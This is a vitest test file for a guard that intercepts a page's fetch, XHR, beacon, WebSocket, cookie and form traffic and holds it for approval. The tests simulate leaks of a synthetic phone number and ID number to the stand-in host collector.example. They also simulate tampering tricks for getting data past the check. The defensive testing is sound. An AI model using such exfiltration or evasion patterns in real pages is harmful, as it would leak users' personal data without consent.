// lib/guard/page/request-wrappers.ts in a fresh happy-dom window per test, with recording fakes in
// place of the browser's senders: nothing is asked while nothing is watched; while watching, every
// route asks about a snapshot and sends exactly that snapshot when allowed; held requests wait for a
// release; and the page can't change what goes out after the check (mutated init, FormData or
// buffers, a lying toString, a re-opened XHR, a header added late) or make a question go unasked.
import { Window as HappyWindow } from 'happy-dom';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { MainChannel, RequestQuestion } from '@/lib/guard/page/page-channel';
import { createRequestGuard, type RequestGuard } from '@/lib/guard/page/request-wrappers';

type PageWindow = Window & typeof globalThis;

const BODY = 'name=li&phone=13800138000';
/** Lets pending promise callbacks (the async body reads) run. */
const settle = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 5));

let win: PageWindow;
let guard: RequestGuard;
let questions: RequestQuestion[];
/** What the fake isolated world answers: true = allowed now, false = held. */
let answer: (question: RequestQuestion) => boolean;
let channel: MainChannel | undefined;
let nativeFetch: ReturnType<typeof vi.fn>;
let nativeBeacon: ReturnType<typeof vi.fn>;
let xhrSends: { xhr: XMLHttpRequest; body: unknown }[];
let socketSends: unknown[];
let cookies: string[];

function setUp(): void {
  win = new HappyWindow({ url: 'https://www.loan.example/apply' }) as unknown as PageWindow;
  nativeFetch = vi.fn(async () => new win.Response('ok'));
  nativeBeacon = vi.fn(() => true);
  xhrSends = [];
  socketSends = [];
  cookies = [];
  win.fetch = nativeFetch as unknown as typeof fetch;
  win.navigator.sendBeacon = nativeBeacon as unknown as Navigator['sendBeacon'];
  win.XMLHttpRequest.prototype.send = function (this: XMLHttpRequest, body?: unknown) {
    xhrSends.push({ xhr: this, body });
  } as XMLHttpRequest['send'];
  win.WebSocket.prototype.send = function (data: unknown) {
    socketSends.push(data);
  } as WebSocket['send'];
  let cookieOwner = Object.getPrototypeOf(win.document) as object;
  while (!Object.getOwnPropertyDescriptor(cookieOwner, 'cookie') && Object.getPrototypeOf(cookieOwner)) cookieOwner = Object.getPrototypeOf(cookieOwner) as object;
  Object.defineProperty(cookieOwner, 'cookie', {
    configurable: true,
    get: () => cookies.join('; '),
    set: (value: string) => void cookies.push(value),
  });
  (win as unknown as { structuredClone: typeof structuredClone }).structuredClone = structuredClone;
  questions = [];
  answer = () => false;
  channel = { ask: (question) => (questions.push(question), answer(question)), ready: () => true };
  guard = createRequestGuard(() => channel, win);
  guard.install(win);
}

beforeEach(setUp);
afterEach(async () => {
  await (win as unknown as HappyWindow).happyDOM.abort();
  win.close();
});

const watch = (): void => guard.receive('W1');
const release = (question: RequestQuestion | undefined, send: boolean): void => guard.receive(`${send ? 'R1' : 'R0'}${question!.id}`);

describe('while nothing is watched', () => {
  it('passes every call straight through, with the same arguments, asking nothing', async () => {
    const init = { method: 'POST', body: BODY };
    await win.fetch('/api/x', init);
    expect(nativeFetch).toHaveBeenCalledWith('/api/x', init);
    expect(win.navigator.sendBeacon('/b', BODY)).toBe(true);
    expect(nativeBeacon).toHaveBeenCalledWith('/b', BODY);
    win.document.cookie = 'a=1';
    expect(cookies).toEqual(['a=1']);
    expect(questions).toEqual([]);
  });

  it('stops asking again once the isolated world says nothing is watched', async () => {
    watch();
    guard.receive('W0');
    await win.fetch('/api/x', { method: 'POST', body: BODY });
    expect(questions).toEqual([]);
  });
});

describe('fetch', () => {
  beforeEach(watch);

  it('asks about the absolute URL, method, headers, referrer and body text, and sends that request when allowed', async () => {
    answer = () => true;
    const response = await win.fetch('/api/apply', { method: 'POST', headers: { 'x-phone': '13800138000' }, body: BODY });
    expect(await response.text()).toBe('ok');
    expect(questions).toHaveLength(1);
    expect(questions[0]).toMatchObject({ route: 'fetch', url: 'https://www.loan.example/api/apply', method: 'POST' });
    expect(questions[0]!.text).toContain('x-phone: 13800138000');
    expect(questions[0]!.text).toContain(BODY);
    const sent = nativeFetch.mock.calls[0]![0] as Request;
    expect(sent.url).toBe('https://www.loan.example/api/apply');
    expect(await sent.text()).toBe(BODY);
  });

  it('holds until released: send delivers once, drop rejects like a network error', async () => {
    const held = win.fetch('/api/a', { method: 'POST', body: BODY });
    await settle();
    expect(nativeFetch).not.toHaveBeenCalled();
    release(questions[0], true);
    await held;
    expect(nativeFetch).toHaveBeenCalledTimes(1);
    const dropped = win.fetch('/api/b', { method: 'POST', body: BODY });
    await settle();
    release(questions[1], false);
    await expect(dropped).rejects.toThrow('Failed to fetch');
    expect(nativeFetch).toHaveBeenCalledTimes(1);
  });

  it('sends exactly what it judged, whatever the page changes in its init object afterwards', async () => {
    const init = { method: 'POST', body: 'harmless=1' };
    const held = win.fetch('/api/a', init);
    init.body = BODY;
    await settle();
    expect(questions[0]!.text).toContain('harmless=1');
    release(questions[0], true);
    await held;
    expect(await (nativeFetch.mock.calls[0]![0] as Request).text()).toBe('harmless=1');
  });

  it('takes a lying toString once: what is asked about is what is sent', async () => {
    let calls = 0;
    const liar = { toString: () => (calls++ === 0 ? 'harmless=1' : BODY) };
    const held = win.fetch('/api/a', { method: 'POST', body: liar as unknown as string });
    await settle();
    release(questions[0], true);
    await held;
    expect(await (nativeFetch.mock.calls[0]![0] as Request).text()).toBe(questions[0]!.text.split('\n').pop());
  });

  it('asks about a GET whose URL carries the data', async () => {
    void win.fetch('https://collector.example/t?p=13800138000');
    await settle();
    expect(questions[0]).toMatchObject({ url: 'https://collector.example/t?p=13800138000', method: 'GET' });
  });

  it('fails closed: with no channel, or a channel that throws, the request is held', async () => {
    channel = undefined;
    void win.fetch('/api/a', { method: 'POST', body: BODY });
    channel = { ask: () => { throw new Error('gone'); }, ready: () => true };
    void win.fetch('/api/b', { method: 'POST', body: BODY });
    await settle();
    expect(nativeFetch).not.toHaveBeenCalled();
  });
});

describe('XMLHttpRequest', () => {
  beforeEach(watch);

  const xhr = (url = '/api/x'): XMLHttpRequest => {
    const request = new win.XMLHttpRequest();
    request.open('POST', url);
    return request;
  };

  it('asks with the URL and headers, holds, and sends the same body on release', () => {
    const request = xhr();
    request.setRequestHeader('content-type', 'application/x-www-form-urlencoded');
    request.send(BODY);
    expect(questions[0]).toMatchObject({ route: 'xhr', url: 'https://www.loan.example/api/x', method: 'POST' });
    expect(questions[0]!.text).toContain('content-type: application/x-www-form-urlencoded');
    expect(xhrSends).toEqual([]);
    release(questions[0], true);
    expect(xhrSends).toEqual([{ xhr: request, body: BODY }]);
  });

  it('refuses a header added after send(), as the browser would', () => {
    const request = xhr();
    request.send(BODY);
    expect(() => request.setRequestHeader('x-id', '11010519491231002X')).toThrow();
  });

  it('drops a held send when the page re-opens the request (the new one is judged on its own)', () => {
    const request = xhr('/api/first');
    request.send('harmless=1');
    request.open('GET', '/api/second?phone=13800138000');
    release(questions[0], true);
    expect(xhrSends).toEqual([]);
  });

  it('sends a private copy of FormData and URLSearchParams: later changes by the page do not go out', () => {
    const request = xhr();
    const form = new win.FormData();
    form.append('name', 'li');
    request.send(form);
    form.append('phone', '13800138000');
    release(questions[0], true);
    const sent = xhrSends[0]!.body as FormData;
    expect([...sent.keys()]).toEqual(['name']);
  });

  it('refuses a synchronous request it would have to hold, and sends an allowed one', () => {
    const request = new win.XMLHttpRequest();
    request.open('POST', '/api/sync', false);
    expect(() => request.send(BODY)).toThrow();
    answer = () => true;
    const allowed = new win.XMLHttpRequest();
    allowed.open('POST', '/api/sync', false);
    allowed.send(BODY);
    expect(xhrSends.map((s) => s.body)).toEqual([BODY]);
  });
});

describe('sendBeacon, WebSocket, cookies', () => {
  beforeEach(watch);

  it('reports a held beacon as queued and sends it only on release with send', () => {
    expect(win.navigator.sendBeacon('/b', BODY)).toBe(true);
    expect(nativeBeacon).not.toHaveBeenCalled();
    release(questions[0], true);
    expect(nativeBeacon).toHaveBeenCalledWith('https://www.loan.example/b', BODY);
  });

  it('holds a WebSocket message and keeps later ones on the socket behind it, in order', async () => {
    const socket = Object.create(win.WebSocket.prototype) as WebSocket;
    Object.defineProperty(socket, 'url', { value: 'wss://chat.loan.example/ws' });
    socket.send(BODY);
    socket.send('ping');
    await settle();
    expect(socketSends).toEqual([]);
    release(questions[0], true);
    await settle();
    answer = () => true;
    release(questions[1], true);
    await settle();
    expect(socketSends).toEqual([BODY, 'ping']);
  });

  it('refuses a WebSocket connection whose URL is held, and opens one that is allowed', () => {
    expect(() => new win.WebSocket('wss://collector.example/ws?id=11010519491231002X')).toThrow();
    expect(questions[0]).toMatchObject({ route: 'websocket', url: 'wss://collector.example/ws?id=11010519491231002X' });
  });

  it('writes a held cookie only when released with send', () => {
    win.document.cookie = 'id=11010519491231002X';
    expect(cookies).toEqual([]);
    release(questions[0], true);
    expect(cookies).toEqual(['id=11010519491231002X']);
  });
});

describe('forms into another window', () => {
  beforeEach(watch);

  it('holds form.submit() into another target, and asks again if the form changed before release', () => {
    const nativeSubmit = vi.fn();
    // The guard wrapped the window's own submit; install a recording one under it by re-creating the guard.
    win.close();
    setUp();
    win.HTMLFormElement.prototype.submit = nativeSubmit;
    guard = createRequestGuard(() => channel, new HappyWindow({ url: 'https://www.loan.example/' }) as unknown as PageWindow);
    const page = new HappyWindow({ url: 'https://www.loan.example/apply' }) as unknown as PageWindow;
    page.HTMLFormElement.prototype.submit = nativeSubmit;
    guard.install(page);
    guard.receive('W1');
    page.document.body.innerHTML = '<form action="/api/f" target="_blank"><input name="phone" value="138"></form>';
    const form = page.document.querySelector('form')!;
    form.submit();
    expect(questions.at(-1)).toMatchObject({ route: 'form', url: 'https://www.loan.example/api/f' });
    (form.elements.namedItem('phone') as HTMLInputElement).value = '13800138000';
    release(questions.at(-1), true);
    expect(nativeSubmit).not.toHaveBeenCalled();
    release(questions.at(-1), true);
    expect(nativeSubmit).toHaveBeenCalledTimes(1);
  });
});

describe('child realms', () => {
  it('wraps fetch in an iframe the page appends, before the page can take it', async () => {
    watch();
    const frame = win.document.createElement('iframe');
    win.document.body.appendChild(frame);
    const child = frame.contentWindow as unknown as PageWindow | null;
    if (!child) return; // this DOM emulation gives no child window: nothing to take
    expect(child.fetch).not.toBe(nativeFetch);
  });
});

describe('a page that replaces built-ins after the guard started', () => {
  it('cannot make a watched request go unasked', async () => {
    watch();
    const saved = { call: Function.prototype.call, then: Promise.prototype.then, includes: String.prototype.includes };
    try {
      Function.prototype.call = function () {
        return undefined;
      } as typeof Function.prototype.call;
      String.prototype.includes = () => false;
      void win.fetch('/api/a', { method: 'POST', body: BODY });
    } finally {
      Function.prototype.call = saved.call;
      String.prototype.includes = saved.includes;
    }
    await settle();
    expect(questions).toHaveLength(1);
    expect(nativeFetch).not.toHaveBeenCalled();
  });
});
